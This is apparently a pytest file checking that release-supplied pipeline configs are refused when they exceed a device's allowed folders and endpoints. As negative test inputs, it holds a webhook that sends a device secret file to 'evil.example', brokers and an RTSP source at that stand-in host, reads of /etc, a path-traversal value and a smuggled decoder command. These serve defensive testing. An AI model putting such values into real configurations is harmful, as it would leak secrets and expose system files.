"""Pipelines that come with a release: they take the place of the device's own, within what its floor allows."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from tests.faults.programs import Program
from tests.faults.releases_for_tests import Releases
from tests.faults.scene import until
from tests.integration.pipelines.test_changes import Site, health
from tests.pipelines_run import LIMIT_S, pipelines_text
from upwell.edge.bundle.bundle import BundleRefused, Refusal
from upwell.edge.updates.releases.device_floor import DeviceFloor
from upwell.pipelines.config.pipelines_config import PipelinesConfig
from upwell.pipelines.run.released_pipelines import check_floor
from upwell.shared.routing.policy.policy import Policy


def written(folder: Path, site: Site, event: str, **changes: Any) -> Path:
    """A pipelines.yaml for a release."""
    path = folder / f"{event}.yaml"
    pipeline = {**site.pipeline("dock", event, "out/events.jsonl"), **changes}
    path.write_text(pipelines_text(folder, dock=pipeline))
    return path


@pytest.mark.slow
def test_they_run_from_the_switch_on_and_what_the_floor_forbids_is_refused(tmp_path: Path, releases: Releases) -> None:
    site = Site(tmp_path, "agent")
    site.write(dock=site.pipeline("dock", "own"))
    (tmp_path / "out").mkdir()
    (tmp_path / "out/secret").write_text("a secret of the device")
    webhook = {"url": "https://evil.example/x", "secret_file": str(tmp_path / "out/secret")}
    config = json.loads(site.config.read_text())
    floor = {"folders": ["in-dock", "out"], "endpoints": ["hooks.site:443"]}
    section = {"source": str(releases.place), "root": str(releases.root), "every": "1s", "clock": "trusted"}
    site.config.write_text(json.dumps({**config, "release": {**section, "floor": floor}}))

    def fares() -> Any:
        return health(program)["release"]

    with Program(site.arguments) as program:
        program.find("serving on (.*)")
        site.show("dock", 1)
        until(lambda: site.events("dock.jsonl") == ["own"], LIMIT_S)
        first = releases.release(pipelines=written(tmp_path, site, "first"))
        until(lambda: fares()["sequence"] == first, LIMIT_S)
        until(lambda: "dock" in health(program)["pipelines"], LIMIT_S)
        site.show("dock", 2)
        until(lambda: "first" in site.events("out/events.jsonl"), LIMIT_S)
        for event, changes, wrong in (
            ("elsewhere", {"sinks": [{"jsonl": str(tmp_path / "elsewhere.jsonl")}]}, "floor.folders"),
            ("secret", {"source": {"folder": "/etc"}}, "floor.folders"),
            ("abroad", {"sinks": [{"webhook": webhook}]}, "floor.endpoints"),
        ):
            releases.release(pipelines=written(tmp_path, site, event, **changes))
            until(lambda wrong=wrong: wrong in fares()["reason"], LIMIT_S)  # type: ignore[misc]  # a default
            assert (fares()["sequence"], fares()["phase"]) == (first, "trial")
        site.show("dock", 3)
        until(lambda: site.events("out/events.jsonl").count("first") == 2, LIMIT_S)
    assert site.events("dock.jsonl") == ["own"]
    assert not (tmp_path / "elsewhere.jsonl").exists()


BROKER = {"broker": "mqtts://evil.example", "topic": "t"}


@pytest.mark.parametrize(
    ("pipeline", "wrong"),
    [
        ({"source": {"video": "rtsp://user:word@evil.example/live"}}, "evil.example"),
        ({"source": {"video": "/etc/secret.mp4"}}, "/etc/secret.mp4"),
        ({"source": {"mqtt": BROKER}}, "evil.example:8883"),
        (
            {"source": {"video": "rtsp://hooks.site:443/x", "decoder": "gst-launch-1.0 filesrc ! videoconvert"}},
            "a command",
        ),
        ({"source": {"plugin": {"name": "anything"}}}, "a custom source"),
        ({"sinks": [{"plugin": {"name": "anything"}}]}, "a custom sink"),
        ({"source": {"folder": "/srv/in/../../etc"}}, "/etc"),
        ({"sinks": [{"mqtt": BROKER}]}, "evil.example:8883"),
        ({"sinks": [{"kafka": {"brokers": ["evil.example:9092"], "topic": "t", "tls": True}}]}, "evil.example:9092"),
        ({"sinks": [{"pictures": {"folder": "/srv/other"}}]}, "/srv/other"),
        ({"sinks": [{"mqtt": {**BROKER, "broker": "mqtts://hooks.site:443", "ca": "/etc/ca"}}]}, "/etc/ca"),
    ],
)
def test_nothing_that_a_pipeline_can_name_slips_past_the_floor(pipeline: Any, wrong: str) -> None:
    document = {"version": 1, "pipelines": {"dock": {"source": {"folder": "/srv/in"}, **pipeline}}}
    config = PipelinesConfig.model_validate(document)
    floor = DeviceFloor(Policy(), ("hooks.site:443",), (Path("/srv/in"),))
    with pytest.raises(BundleRefused, match=re.escape(wrong)) as caught:
        check_floor(config, floor, 7)
    assert caught.value.refusal is Refusal.LOOSENED


def test_what_the_floor_names_passes() -> None:
    sinks = [{"jsonl": "/srv/in/a.jsonl"}, {"mqtt": {"broker": "mqtts://hooks.site:443", "topic": "t"}}]
    document = {"version": 1, "pipelines": {"dock": {"source": {"camera": "/dev/video0"}, "sinks": sinks}}}
    floor = DeviceFloor(Policy(), ("hooks.site:443",), (Path("/srv/in"),))
    check_floor(PipelinesConfig.model_validate(document), floor, 7)
